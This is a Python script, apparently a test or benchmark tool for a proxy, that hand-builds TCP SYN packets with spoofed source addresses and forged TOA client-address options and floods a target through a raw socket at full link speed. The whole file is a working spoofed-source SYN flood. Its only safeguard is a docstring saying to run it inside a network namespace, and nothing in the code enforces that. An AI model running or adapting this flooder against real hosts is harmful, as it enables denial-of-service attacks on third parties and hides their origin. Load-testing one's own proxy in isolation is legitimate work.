#!/usr/bin/env python3
"""SYN flood with TOA from spoofed sources, built by hand (no scapy) and sent through a raw socket.

Every SYN has a random source address in --src-net and a random source port, Linux-like options
(MSS, SACK-permitted, timestamps, window scale) and a TOA option (--toa-kind, length 8) naming a
random client in --toa-net. Checksums are correct, so the kernel treats each one as a real SYN.
Packets come from a pool built up front and are sent in a loop for --seconds; the last stdout line
is a JSON summary: {"sent": N, "seconds": S, "pps": P}. --count stops earlier, after N packets.

Run it only inside a network namespace the caller created (tests/ and bench/flood.sh do).
"""
import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

TFO_MAGIC = 0xF989  # a kind-254 option starting with these bytes is a TCP Fast Open cookie, not TOA


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(rng, src_hosts, dst: bytes, port: int, toa_kind: int, toa_hosts) -> bytes:
    src = rng.choice(src_hosts)
    options = (
        struct.pack("!BBH", 2, 4, 1460)
        + bytes([4, 2])
        + struct.pack("!BBII", 8, 10, rng.getrandbits(32), 0)
        + bytes([1, 3, 3, 7])
        + struct.pack("!BBH", toa_kind, 8, rng.randrange(1, TFO_MAGIC))
        + rng.choice(toa_hosts)
    )
    header_words = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, header_words << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # IP_HDRINCL: the kernel fills in the IP checksum (and the id, left 0).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def hosts(network: str):
    return [h.packed for h in ipaddress.ip_network(network).hosts()]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--dst", required=True, help="the proxy's listen address")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--count", type=int, default=0, help="stop after this many packets; 0 = only --seconds")
    parser.add_argument("--pps", type=int, default=0, help="packets per second; 0 = as fast as possible")
    parser.add_argument("--src-net", default="203.0.113.0/24", help="spoofed source addresses")
    parser.add_argument("--toa-net", default="192.0.2.0/24", help="clients the spoofed TOA options claim")
    parser.add_argument("--toa-kind", type=int, default=254)
    parser.add_argument("--pool", type=int, default=65536, help="distinct packets built before sending")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()

    rng = random.Random(args.seed)
    dst = ipaddress.ip_address(args.dst).packed
    src_hosts, toa_hosts = hosts(args.src_net), hosts(args.toa_net)
    pool = [syn(rng, src_hosts, dst, args.port, args.toa_kind, toa_hosts) for _ in range(args.pool)]

    stop = False

    def on_signal(*_):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = (args.dst, 0)
    send = sock.sendto
    batch = 256
    sent = 0
    start = time.monotonic()
    deadline = start + args.seconds
    print(json.dumps({"started": True, "pool": len(pool)}), flush=True)
    while not stop:
        now = time.monotonic()
        if now >= deadline or (args.count and sent >= args.count):
            break
        if args.pps and sent > (now - start) * args.pps:
            time.sleep(batch / args.pps / 4)
            continue
        base = sent % len(pool)
        for packet in pool[base:base + batch]:
            try:
                send(packet, target)
            except (BlockingIOError, OSError):
                # ENOBUFS when the device queue is full: the flood is as fast as the link takes it.
                continue
            sent += 1
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "pps": round(sent / elapsed) if elapsed else 0}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
